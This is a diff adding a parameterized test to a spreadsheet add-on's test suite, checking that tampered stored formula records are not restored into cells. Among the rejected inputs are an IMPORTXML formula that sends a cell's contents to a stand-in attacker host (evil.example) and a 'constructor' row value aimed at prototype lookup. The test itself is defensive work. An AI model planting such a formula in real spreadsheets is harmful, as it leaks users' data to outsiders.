@@ -235,6 +235,23 @@ describe("Finish formulas", () => {
     expect(JSON.parse(properties.get("finish-formulas") ?? "").held).toEqual([held(2, 2)]);
   });
 
+  test.each([
+    ["a formula of others", { formula: '=IMPORTXML("https://evil.example",A1)' }],
+    ["our name in a text", { formula: '=IMPORTXML("VERIFY_EMAIL(A1)",A1)' }],
+    ["a text", { formula: "VALID" }],
+    ["no formula", { formula: null }],
+    ["no row", { row: 0.5 }],
+    ["a row from the prototype", { row: "constructor" }],
+    ["no print", { rowPrint: {} }],
+  ])("puts back nothing of a record with %s in it", (_, wrong) => {
+    const held = { sheet: 1, row: 1, column: 2, formula: "=VERIFY_EMAIL(A1)", rowPrint: "+1", ...wrong };
+    properties.set("finish-formulas", JSON.stringify({ by: "another", untilMs: 0, held: [held] }));
+    const sheet = createFakeSheet(() => "not finished");
+    sheet.type(2, 1, [["ann@acme.example", "=VERIFY_EMAIL(A2)"]]);
+    finish(sheet);
+    expect([1, 2].map((row) => sheet.formulaAt(row, 2))).toEqual(["", "=VERIFY_EMAIL(A2)"]);
+  });
+
   test("leaves what somebody has typed into a cell that was being finished", () => {
     const left = {
       by: "another",
